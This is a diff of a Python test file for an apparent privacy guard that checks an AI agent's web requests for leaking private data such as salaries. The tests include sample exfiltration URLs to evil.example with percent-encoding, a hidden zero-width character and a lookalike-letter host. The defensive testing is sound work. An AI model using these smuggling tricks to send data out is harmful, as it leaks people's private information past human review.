@@ -189,21 +189,18 @@ def test_a_private_brief_asks_from_the_first_turn_on() -> None:
 def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
     verdict = private().judge_call(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x"))
     asks = verdict.unreleased_data
-    assert asks is not None
     assert verdict.recipient == "evil.example"
     wire, _, clear = asks.text.splitlines()
     assert wire == "GET https://evil.example/?d=%73alary%20184%E2%80%8B"
     assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
     assert asks.reason == "a model put this together or took it from the web, and could see salaries.csv"
     query = private().judge_call(FIND, Words(query="salary 184,200"))
-    assert query.unreleased_data is not None
     assert query.recipient == "engine.example"
     assert query.unreleased_data.text.splitlines()[-1] == "salary 184,200"
 
 
 def test_a_host_in_letters_that_look_like_others_is_shown_as_it_is_looked_up() -> None:
     verdict = private().judge_call(OPEN, Where(url="https://\u0430cme.example/x"))
-    assert verdict.unreleased_data is not None
     assert verdict.recipient == "xn--cme-5cd.example"
     assert verdict.unreleased_data.text == "GET https://xn--cme-5cd.example/x"
 
@@ -214,7 +211,6 @@ def test_a_tool_that_sends_more_than_a_request_is_judged_by_both() -> None:
     )
     guard = private("see https://acme.example/x")
     asks = guard.judge_call(poster, Where(url="https://acme.example/%78", start=184200)).unreleased_data
-    assert asks is not None
     assert asks.text == "POST https://acme.example/x 184200"
     assert make_guard().judge_call(poster, Where(url="https://evil.example/")).refusal_note == "url_refused"
     assert (
